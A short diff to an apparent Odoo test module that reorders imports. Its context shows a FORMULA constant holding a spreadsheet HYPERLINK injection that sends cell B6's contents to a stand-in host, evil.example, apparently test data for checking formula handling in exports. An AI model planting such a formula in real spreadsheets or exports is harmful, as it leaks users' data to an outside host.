@@ -6,12 +6,12 @@ import json
 import re
 import xmlrpc.client
 
-import odoo
+import live  # tests/live.py
 import openpyxl
 import xlrd
-from odoo.tests.common import get_db_name
 
-import live  # tests/live.py
+import odoo
+from odoo.tests.common import get_db_name
 
 DB = get_db_name()
 FORMULA = '=HYPERLINK("http://evil.example/steal?d="&B6,"查看详情")'
